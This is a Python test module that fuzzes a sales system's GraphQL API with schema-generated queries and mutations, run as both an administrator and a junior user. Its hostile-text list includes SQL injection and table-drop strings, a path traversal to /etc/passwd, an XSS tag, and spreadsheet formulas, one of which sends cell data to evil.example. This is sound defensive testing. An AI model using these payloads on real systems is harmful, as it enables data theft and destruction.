"""A schema-driven GraphQL fuzzer: every query and mutation of the live schema,
with an administrator's and a junior rep's token, against the real stack.

hypothesis-graphql writes the operations from the schema the gateway introspects; the
scalars it cannot know (``DateTime``, ``Date``, ``Decimal``) and the ones worth steering
(``ID`` towards real IDs, ``String`` towards hostile text) get strategies of ours, each
mixing valid values with hostile ones. Half the operations send their arguments as
variables instead of inline literals, so both of a scalar's parsers are exercised, and
variables can carry what a query text cannot (a lone surrogate). Each operation runs as
both callers. Allowed answers: any 2xx/4xx with typed errors; never HTTP 5xx, never
``extensions.code == "INTERNAL"``, never an error without a code.

Bounded for CI: ``SALESGUARD_FUZZ_SECONDS`` (default 150) is the whole budget, shared
out over the root fields; ``SALESGUARD_FUZZ_EXAMPLES`` (default 60) caps the operations
per root field; ``SALESGUARD_FUZZ_SEED`` (default 0, so CI runs the same operations
every time; ``random`` for a fresh sample) seeds hypothesis; ``SALESGUARD_FUZZ_DEBUG=1``
adds the commonest error messages to the report. The test prints the number of
operations and requests it ran, the error codes it saw and each failure's operation.
"""

from __future__ import annotations

import asyncio
import contextlib
import dataclasses
import json
import os
import random
import time
from collections import Counter
from collections.abc import Coroutine
from dataclasses import dataclass, field
from datetime import UTC, date, datetime, timedelta, timezone
from decimal import Decimal
from typing import Any, TypeVar

import graphql
import pytest
from hypothesis import HealthCheck, Phase, Verbosity, given, seed, settings
from hypothesis import strategies as st
from hypothesis_graphql import mutations, nodes, queries

from tests.conftest import SuiteFactory
from tests.harness import Suite, employee_id, global_id
from tests.org import Org, make_org, register

T = TypeVar("T")

BUDGET_SECONDS = float(os.environ.get("SALESGUARD_FUZZ_SECONDS", "150"))
EXAMPLES_PER_FIELD = int(os.environ.get("SALESGUARD_FUZZ_EXAMPLES", "60"))
_SEED = os.environ.get("SALESGUARD_FUZZ_SEED", "0")
SEED = random.randrange(2**32) if _SEED == "random" else int(_SEED)
REQUEST_TIMEOUT_SECONDS = 60.0

# -- scalar strategies: valid values and hostile ones ------------------------------------------

HOSTILE_TEXT = [
    "",
    " ",
    "\x00",
    "\t\r\n",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)",
    "@SUM(1+1)",
    "-2+3",
    "' OR '1'='1' --",
    "'; DROP TABLE customers; --",
    "../../../../etc/passwd",
    "%s%s%s%n",
    "{{7*7}}",
    "<script>alert(1)</script>",
    "\u202egnp.exe",
    "𝕳𝖊𝖑𝖑𝖔 👋🏽",
    "李雷" * 300,
    "x" * 10_001,  # over the gateway's max_string_length
    "\ud800",  # lone surrogates: reach the gateway only in variables
    "abc\udfff",
]
_offsets = st.integers(min_value=-14 * 60, max_value=14 * 60).map(
    lambda minutes: timezone(timedelta(minutes=minutes))
)
_moments = st.datetimes(
    min_value=datetime(1900, 1, 2), max_value=datetime(2199, 12, 30), timezones=_offsets
).map(datetime.isoformat)
DATE_TIMES = st.one_of(
    _moments,
    _moments,
    st.datetimes(min_value=datetime(2020, 1, 1), max_value=datetime(2030, 1, 1)).map(
        lambda moment: moment.replace(tzinfo=UTC).isoformat()
    ),
    st.sampled_from(
        [
            "0001-01-01T00:00:00+14:00",
            "9999-12-31T23:59:59-14:00",
            "0001-01-01T00:00:00Z",
            "1899-12-31T23:59:59Z",
            "1900-01-01T00:00:00Z",
            "2200-01-01T00:00:00Z",
            "2200-01-01T00:00:00.000001Z",
            "2026-01-01T00:00:00",
            "0000-00-00",
            "2025-02-30T00:00:00Z",
            "2025-01-01T00:00:00+25:00",
            "2025-01-01",
            "now",
        ]
    ),
    st.sampled_from(HOSTILE_TEXT),
).map(nodes.String)
DATES = st.one_of(
    st.dates(min_value=date(1900, 1, 1), max_value=date(2200, 1, 1)).map(date.isoformat),
    st.dates(min_value=date(2024, 1, 1), max_value=date(2027, 1, 1)).map(date.isoformat),
    st.sampled_from(
        [
            "0001-01-01",
            "9999-12-31",
            "1899-12-31",
            "2200-01-02",
            "0000-00-00",
            "2025-13-01",
            "20250101",
        ]
    ),
    st.sampled_from(HOSTILE_TEXT),
).map(nodes.String)
DECIMALS = st.one_of(
    st.decimals(min_value=Decimal("0.01"), max_value=Decimal("1000000"), places=2).map(str),
    st.decimals(min_value=Decimal("0.01"), max_value=Decimal("1000000"), places=2).map(str),
    st.decimals(allow_nan=False, allow_infinity=False).map(str),
    st.sampled_from(
        [
            "1234.50",
            "0",
            "-0.00",
            "-1",
            "0.001",
            "100",
            "NaN",
            "-Infinity",
            "sNaN",
            "1e999999999",
            "1E+18",
            "1e-30",
            "９９",  # full-width digits: Python's Decimal reads them
            "12,50",
            " 12 ",
            "0x10",
            "9" * 60,
        ]
    ),
    st.sampled_from(HOSTILE_TEXT),
).map(nodes.String)
# Values the services accept somewhere (a month, a currency, a phone, a content type…),
# so that operations get past the first check and into the code behind it.
PLAUSIBLE_TEXT = [
    "2026-03",
    "2025-12",
    "CNY",
    "USD",
    "Asia/Shanghai",
    "+86 138 0013 8000",
    "13912345678",
    "buyer@example.com",
    "image/jpeg",
    "application/pdf",
    "上海市黄浦区南京东路 100 号",
    "Acme Trading",
    "SKU-1",
    "a reason",
    "bank-ref-001",
    "RESOLVED",
    "customer.update",
]
STRINGS = st.one_of(
    st.sampled_from(PLAUSIBLE_TEXT),
    st.sampled_from(PLAUSIBLE_TEXT),
    st.text(max_size=40),
    st.sampled_from(HOSTILE_TEXT),
).map(nodes.String)
INTS = st.one_of(
    st.integers(min_value=1, max_value=50),
    st.integers(min_value=1, max_value=50),
    st.sampled_from([0, -1, 100, 101, 2**31 - 1, -(2**31)]),
).map(nodes.Int)
FLOATS = st.one_of(
    st.floats(min_value=-90, max_value=90),
    st.floats(min_value=0, max_value=500),
    st.floats(allow_nan=False, allow_infinity=False),
    st.sampled_from([0.0, -0.0, 1e308, -1e308, 5e-324, 31.2304, 121.4737]),
).map(nodes.Float)


def id_strategy(known: list[str]) -> st.SearchStrategy[graphql.ValueNode]:
    return st.one_of(
        st.sampled_from(known),
        st.sampled_from(known),
        st.text(max_size=40),
        st.sampled_from(HOSTILE_TEXT),
    ).map(nodes.String)


# -- operations -------------------------------------------------------------------------------


def with_variables(
    document: graphql.DocumentNode, root: graphql.GraphQLObjectType
) -> tuple[str, dict[str, Any]]:
    """The operation with every root field's arguments moved into variables."""
    operation = document.definitions[0]
    assert isinstance(operation, graphql.OperationDefinitionNode)
    definitions: list[graphql.VariableDefinitionNode] = []
    variables: dict[str, Any] = {}
    selections: list[graphql.SelectionNode] = []
    for selection in operation.selection_set.selections:
        if isinstance(selection, graphql.FieldNode) and selection.name.value in root.fields:
            arguments = root.fields[selection.name.value].args
            moved: list[graphql.ArgumentNode] = []
            for argument in selection.arguments or ():
                name = f"v{len(variables)}"
                variables[name] = graphql.value_from_ast_untyped(argument.value)
                variable = graphql.VariableNode(name=graphql.NameNode(value=name))
                type_node = graphql.parse_type(str(arguments[argument.name.value].type))
                definitions.append(
                    graphql.VariableDefinitionNode(variable=variable, type=type_node)
                )
                moved.append(graphql.ArgumentNode(name=argument.name, value=variable))
            selection = dataclasses.replace(selection, arguments=tuple(moved))
        selections.append(selection)
    operation = dataclasses.replace(
        operation,
        variable_definitions=tuple(definitions),
        selection_set=dataclasses.replace(operation.selection_set, selections=tuple(selections)),
    )
    return graphql.print_ast(graphql.DocumentNode(definitions=(operation,))), variables


@dataclass
class Findings:
    operations: int = 0
    requests: int = 0
    by_field: Counter[str] = field(default_factory=Counter)
    # Requests answered without any error.
    answered: int = 0
    codes: Counter[str] = field(default_factory=Counter)
    messages: Counter[str] = field(default_factory=Counter)
    # One example per (field, problem), with the operation that shows it.
    failures: dict[tuple[str, str], dict[str, Any]] = field(default_factory=dict)

    def report(self) -> str:
        lines = [
            f"GraphQL fuzzer: {self.operations} operations, {self.requests} requests over "
            f"{len(self.by_field)} root fields (seed {SEED}); {len(self.failures)} failures",
            f"  {self.answered} answered without errors; error codes: {dict(self.codes.most_common())}",
            *(f"  {count:5} {message}" for message, count in self.messages.most_common(40)),
        ]
        for (root, problem), example in self.failures.items():
            lines.append(
                f"  {root}: {problem}\n    {json.dumps(example, ensure_ascii=True)[:1500]}"
            )
        return "\n".join(lines)


def problem_of(status: int, body: Any) -> str | None:
    """What is wrong with an answer, or None when it is one a client may get."""
    if status >= 500:
        return f"HTTP {status}"
    if not isinstance(body, dict):
        return f"HTTP {status} without a JSON object"
    for error in body.get("errors") or ():
        code = (error.get("extensions") or {}).get("code")
        if not code:
            return f"an error without a code: {error.get('message')}"
        if code == "INTERNAL":
            return f"INTERNAL: {error.get('message')} at {error.get('path')}"
    return None


class _OutOfTime(Exception):
    """Ends a root field's examples when its share of the budget is spent."""


class Fuzzer:
    def __init__(
        self, suite: Suite, loop: asyncio.AbstractEventLoop, callers: list[str], known: list[str]
    ) -> None:
        self.suite = suite
        self.loop = loop
        self.callers = callers
        self.scalars = {
            "DateTime": DATE_TIMES,
            "Date": DATES,
            "Decimal": DECIMALS,
            "ID": id_strategy(known),
            "String": STRINGS,
            "Int": INTS,
            "Float": FLOATS,
        }
        self.findings = Findings()

    def _await(self, coroutine: Coroutine[Any, Any, T]) -> T:
        """Run on the suite's event loop (hypothesis runs in a worker thread)."""
        return asyncio.run_coroutine_threadsafe(coroutine, self.loop).result(
            REQUEST_TIMEOUT_SECONDS
        )

    async def _post(self, payload: bytes, caller: str) -> tuple[int, Any]:
        headers = {
            "Authorization": f"Bearer {self.suite.token(caller)}",
            "Content-Type": "application/json",
        }
        try:
            response = await self.suite.client.post("/graphql", content=payload, headers=headers)
        except Exception as error:  # what escapes the app is what a server answers 500 to
            return 500, repr(error)
        try:
            return response.status_code, response.json()
        except ValueError:
            return response.status_code, response.text

    def run_field(
        self,
        schema: graphql.GraphQLSchema,
        root: graphql.GraphQLObjectType,
        name: str,
        until: float,
    ) -> None:
        build = queries if root is schema.query_type else mutations
        key = f"{root.name}.{name}"
        operations = build(
            schema, fields=[name], custom_scalars=self.scalars, print_ast=lambda document: document
        )

        @seed(SEED)
        @settings(
            max_examples=EXAMPLES_PER_FIELD,
            deadline=None,
            database=None,
            phases=[Phase.generate],
            suppress_health_check=list(HealthCheck),
            verbosity=Verbosity.quiet,
        )
        @given(document=operations, as_variables=st.booleans())
        def one(document: graphql.DocumentNode, as_variables: bool) -> None:
            # Every root field runs at least once, however slow the machine.
            if time.monotonic() > until and self.findings.by_field[key]:
                raise _OutOfTime
            if as_variables:
                query, variables = with_variables(document, root)
            else:
                query, variables = graphql.print_ast(document), {}
            # ensure_ascii: a lone surrogate travels as JSON's \ud800 escape, as a client sends it.
            payload = json.dumps({"query": query, "variables": variables}).encode()
            self.findings.operations += 1
            self.findings.by_field[key] += 1
            for caller in self.callers:
                status, body = self._await(self._post(payload, caller))
                self.findings.requests += 1
                if isinstance(body, dict):
                    errors = body.get("errors") or ()
                    self.findings.answered += not errors
                    for error in errors:
                        self.findings.codes[str((error.get("extensions") or {}).get("code"))] += 1
                        if os.environ.get("SALESGUARD_FUZZ_DEBUG"):
                            self.findings.messages[str(error.get("message"))[:60]] += 1
                problem = problem_of(status, body)
                if problem is not None:
                    signature = (key, problem.split(" at ")[0][:200])
                    self.findings.failures.setdefault(
                        signature,
                        {"as": caller, "query": query, "variables": variables, "answer": body},
                    )

        with contextlib.suppress(_OutOfTime):
            one()

    def run(self, schema: graphql.GraphQLSchema) -> None:
        roots = [schema.query_type, schema.mutation_type]
        work = [(root, name) for root in roots if root is not None for name in sorted(root.fields)]
        deadline = time.monotonic() + BUDGET_SECONDS
        for done, (root, name) in enumerate(work):
            # A late field still runs once (run_field), so a slow machine skips none.
            share = max(deadline - time.monotonic(), 0) / (len(work) - done)
            self.run_field(schema, root, name, time.monotonic() + share)


async def live_schema(suite: Suite) -> graphql.GraphQLSchema:
    introspection = await suite.gql(graphql.get_introspection_query(), as_="admin")
    return graphql.build_client_schema(introspection.ok())  # type: ignore[arg-type]


SUBMIT = "mutation($input: SubmitOrderInput!) { submitOrder(input: $input) { order { id } } }"
REQUEST_EXPORT = """mutation($input: RequestCustomerExportInput!) {
  requestCustomerExport(input: $input) { exportRequest { id } } }"""


async def known_ids(suite: Suite, org: Org) -> list[str]:
    """IDs that exist, so that operations reach more than NOT_FOUND (the API's global IDs):
    people, branches, teams, customers, an order and an export request of the org."""
    customers = [await register(suite, owner) for owner in (org.junior, org.junior_b, org.senior)]
    line = {"sku": "SKU-1", "quantity": "2", "unitPrice": "1234.50"}
    order = {"customerId": customers[0]["id"], "lines": [line], "currency": "CNY"}
    submitted = (await suite.gql(SUBMIT, {"input": order}, as_=org.junior)).ok()
    export = {"customerIds": [customers[1]["id"]], "reason": "quarterly review"}
    requested = (await suite.gql(REQUEST_EXPORT, {"input": export}, as_=org.manager)).ok()
    places = {org.branch: "Branch", org.other_branch: "Branch", org.hq: "Branch"}
    places |= {org.team_a: "Team", org.team_b: "Team"}
    people = [
        global_id(places[value], value) if value in places else employee_id(value)
        for value in vars(org).values()
        if isinstance(value, str)
    ]
    return [
        *people,
        *(customer["id"] for customer in customers),
        *(customer["code"] for customer in customers),
        submitted["submitOrder"]["order"]["id"],
        requested["requestCustomerExport"]["exportRequest"]["id"],
    ]


@pytest.fixture(scope="module")
async def fuzzed_suite(full_suite_factory: SuiteFactory) -> Suite:
    """A suite of its own: the fuzzer's administrator changes plans, branches and people."""
    return await full_suite_factory()


# The budget, and room for the suite to start and the last requests to finish.
@pytest.mark.timeout(BUDGET_SECONDS + 240)
# Ending a field's examples early is, to hypothesis, a failing example it describes at length.
@pytest.mark.filterwarnings("ignore:Generating overly large repr")
async def test_graphql_fuzz_no_5xx_and_no_internal(
    fuzzed_suite: Suite, capsys: pytest.CaptureFixture[str]
) -> None:
    suite = fuzzed_suite
    org = await make_org(suite)
    schema = await live_schema(suite)
    fuzzer = Fuzzer(
        suite, asyncio.get_running_loop(), ["admin", org.junior], await known_ids(suite, org)
    )
    started = time.monotonic()
    await asyncio.to_thread(fuzzer.run, schema)
    findings = fuzzer.findings
    with capsys.disabled():
        print(f"\n{findings.report()}\n  took {time.monotonic() - started:.0f} s")
    roots = len(schema.query_type.fields) + len(schema.mutation_type.fields)  # type: ignore[union-attr]
    assert len(findings.by_field) == roots, f"only {sorted(findings.by_field)} were fuzzed"
    assert not findings.failures, findings.report()
